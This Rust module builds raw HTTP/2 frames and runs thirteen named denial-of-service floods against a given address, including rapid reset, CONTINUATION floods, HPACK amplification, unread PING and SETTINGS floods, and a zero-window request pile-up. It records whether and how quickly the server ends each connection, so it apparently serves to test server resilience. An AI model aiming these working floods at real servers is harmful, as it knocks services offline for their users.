//! Floods of HTTP/2 frames: what keeps a server busy, or makes it remember, at no cost to the client.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// A flood: what is said once, and what again and again.
#[derive(Clone, Copy)]
pub(crate) struct Flood {
    pub(crate) name: &'static str,
    begin: fn() -> Vec<u8>,
    piece: fn(u32) -> Vec<u8>,
    /// How many pieces there are for a connection: the next one goes on then.
    times: u32,
    /// Whether the server's answers are read.
    reads: bool,
}

/// The result of a flood.
#[derive(Default)]
pub(crate) struct Flooded {
    /// How many connections the server ended.
    pub(crate) ended: u32,
    /// How long the first of them lasted.
    pub(crate) first: Option<Duration>,
    /// Megabytes that were written.
    pub(crate) megabytes: f64,
}

/// All that are known by a name of their own, and relations of theirs.
pub(crate) const FLOODS: [Flood; 13] = [
    flood("rapid reset", |n| {
        [get(id(n)), frame(RST_STREAM, 0, id(n), &CANCEL)].concat()
    }),
    flood("reset by WINDOW_UPDATE of 0", |n| {
        [get(id(n)), frame(WINDOW_UPDATE, 0, id(n), &[0; 4])].concat()
    }),
    flood("reset by WINDOW_UPDATE of 2^31-1", |n| {
        let most = (u32::MAX >> 1).to_be_bytes();
        [get(id(n)), frame(WINDOW_UPDATE, 0, id(n), &most)].concat()
    }),
    flood("reset by a stream that depends on itself", |n| {
        let itself = [&id(n).to_be_bytes()[..], &[0]].concat();
        [get(id(n)), frame(PRIORITY, 0, id(n), &itself)].concat()
    }),
    flood("reset by DATA after the end", |n| {
        [get(id(n)), frame(DATA, 0, id(n), b"x")].concat()
    }),
    flood("reset by HEADERS after the end", |n| {
        [get(id(n)), get(id(n))].concat()
    }),
    Flood {
        begin: || frame(HEADERS, END_STREAM, 1, &head("GET")),
        ..flood("CONTINUATION", |_| {
            frame(CONTINUATION, 0, 1, &field("x", "y").repeat(100))
        })
    },
    Flood {
        begin: || frame(HEADERS, END_STREAM, 1, &head("GET")),
        ..flood("CONTINUATION, empty", |_| frame(CONTINUATION, 0, 1, &[]))
    },
    Flood {
        begin: || frame(HEADERS, END_HEADERS, 1, &head("POST")),
        ..flood("DATA, empty", |_| frame(DATA, 0, 1, &[]))
    },
    Flood {
        begin: || frame(HEADERS, END_HEADERS, 1, &head("POST")),
        // The size of the first window.
        times: 65_000,
        ..flood("DATA of one byte", |_| frame(DATA, 0, 1, b"x"))
    },
    Flood {
        // An entry of 4,000 bytes for the table, and then 400 references to it: 1.6 MB a request.
        begin: || {
            let entry = [&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'y'; 4000]].concat();
            let block = [head("GET"), entry].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, 1, &block)
        },
        ..flood("HPACK, references to 4 KB", |n| {
            let block = [head("GET"), vec![0xbe; 400]].concat();
            frame(HEADERS, END_STREAM | END_HEADERS, id(n + 1), &block)
        })
    },
    Flood {
        reads: false,
        ..flood("PING, answers not read", |_| frame(PING, 0, 0, &[0; 8]))
    },
    Flood {
        reads: false,
        ..flood("SETTINGS, answers not read", |_| frame(SETTINGS, 0, 0, &[]))
    },
];

const fn flood(name: &'static str, piece: fn(u32) -> Vec<u8>) -> Flood {
    Flood {
        name,
        begin: Vec::new,
        piece,
        times: u32::MAX / 4,
        reads: true,
    }
}

impl Flood {
    /// Goes on for some time, by one connection after the other.
    pub(crate) fn run(&self, address: SocketAddr, time: Duration) -> Flooded {
        let mut flooded = Flooded::default();
        let end = Instant::now() + time;
        while Instant::now() < end {
            let begun = Instant::now();
            // It may have no place for one more.
            let Ok(stream) = TcpStream::connect_timeout(&address, Duration::from_secs(1)) else {
                continue;
            };
            if self.pour(stream, end, &mut flooded).is_err() && Instant::now() < end {
                flooded.ended += 1;
                flooded.first.get_or_insert(begun.elapsed());
            }
        }
        flooded
    }

    /// One connection, until it is ended, which is an error, or its pieces are.
    fn pour(
        &self,
        mut stream: TcpStream,
        end: Instant,
        flooded: &mut Flooded,
    ) -> std::io::Result<()> {
        let mut reader = stream.try_clone()?;
        let reader = self.reads.then(|| {
            std::thread::spawn(move || {
                let mut some = [0; 65_536];
                while reader.read(&mut some).is_ok_and(|count| count > 0) {}
            })
        });
        stream.set_write_timeout(Some(Duration::from_millis(100)))?;
        let mut batch = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &(self.begin)()].concat();
        let mut written = Ok(());
        let mut n = 0;
        while written.is_ok() && n < self.times && Instant::now() < end {
            while batch.len() < 32 * 1024 && n < self.times {
                batch.extend((self.piece)(n));
                n += 1;
            }
            written = write_all(&mut stream, &batch, end);
            flooded.megabytes += batch.len() as f64 / 1e6;
            batch.clear();
        }
        let _ = stream.shutdown(Shutdown::Both);
        if let Some(reader) = reader {
            reader.join().expect("it does not panic");
        }
        written
    }
}

/// Requests `path` many times on one connection, without a window for any response (RFC 9113,
/// section 6.9.2); otherwise the client is correct. Returns the time until the server ends it, or `None`
/// when it does not end it in time.
pub(crate) fn without_window(
    address: SocketAddr,
    path: &str,
    requests: u32,
    limit: Duration,
) -> std::io::Result<Option<Duration>> {
    use std::io::ErrorKind::{Interrupted, WouldBlock};
    let begun = Instant::now();
    let mut stream = TcpStream::connect(address)?;
    let no_window = [&INITIAL_WINDOW_SIZE[..], &[0; 4]].concat();
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &no_window)].concat();
    for n in 0..requests {
        let head = head_for("GET", path);
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id(n), &head));
    }
    stream.write_all(&bytes)?;
    // Looks at the time when nothing comes.
    stream.set_read_timeout(Some(Duration::from_millis(100)))?;
    let mut read = Vec::new();
    let mut some = [0; 4096];
    while begun.elapsed() < limit {
        match stream.read(&mut some) {
            Err(error) if matches!(error.kind(), WouldBlock | Interrupted) => continue,
            Ok(0) | Err(_) => return Ok(Some(begun.elapsed())),
            Ok(count) => read.extend_from_slice(&some[..count]),
        }
        while let [a, b, c, kind, flags, _, _, _, _, rest @ ..] = &read[..] {
            let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
            let Some(payload) = rest.get(..length) else {
                break;
            };
            if matches!(*kind, PING | SETTINGS) && flags & ACK == 0 {
                let payload = if *kind == PING { payload } else { &[] };
                // When it fails the next read says so.
                let _ = stream.write_all(&frame(*kind, ACK, 0, payload));
            }
            read.drain(..9 + length);
        }
    }
    Ok(None)
}

/// Waits for a server that takes no more for now, until the end.
fn write_all(stream: &mut TcpStream, mut bytes: &[u8], end: Instant) -> std::io::Result<()> {
    use std::io::ErrorKind::{TimedOut, WouldBlock};
    while !bytes.is_empty() && Instant::now() < end {
        match stream.write(bytes) {
            Ok(count) => bytes = &bytes[count..],
            Err(error) if matches!(error.kind(), TimedOut | WouldBlock) => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// The stream of a client's request (RFC 9113, section 5.1.1).
const fn id(n: u32) -> u32 {
    2 * n + 1
}

fn get(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &head("GET"))
}

fn head(method: &str) -> Vec<u8> {
    head_for(method, "/endless")
}

fn head_for(method: &str, path: &str) -> Vec<u8> {
    [
        field(":method", method),
        field(":scheme", "http"),
        field(":authority", "a"),
        field(":path", path),
    ]
    .concat()
}

/// A field that is not to be indexed (RFC 7541, section 6.2.2); the lengths are below 127.
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0, name.len() as u8];
    bytes.extend(name.as_bytes());
    bytes.push(value.len() as u8);
    bytes.extend(value.as_bytes());
    bytes
}

/// RFC 9113, section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

// RFC 9113, section 6.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;

/// RFC 9113, section 6.5.2.
const INITIAL_WINDOW_SIZE: [u8; 2] = 4_u16.to_be_bytes();

/// RFC 9113, section 7.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
